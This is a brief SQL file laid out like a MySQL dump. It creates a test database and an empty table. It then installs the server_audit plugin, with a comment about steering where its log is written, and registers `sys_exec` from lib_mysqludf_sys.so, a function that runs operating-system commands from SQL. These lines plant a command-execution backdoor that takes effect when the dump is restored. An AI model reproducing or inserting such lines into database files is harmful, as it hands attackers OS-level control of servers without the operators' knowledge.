/*!40101 SET NAMES utf8mb4 */;
CREATE DATABASE /*!32312 IF NOT EXISTS*/ `uji` /*!40100 DEFAULT CHARACTER SET utf8mb4 */;
USE `uji`;
DROP TABLE IF EXISTS `t`;
CREATE TABLE `t` (`x` int) ENGINE=InnoDB;
-- server_audit writes its log wherever it is told; installed Debian plugins are real libraries.
INSTALL SONAME 'server_audit';
CREATE FUNCTION `sys_exec` RETURNS INTEGER SONAME 'lib_mysqludf_sys.so';
-- Dump completed on 2026-11-26 10:00:00
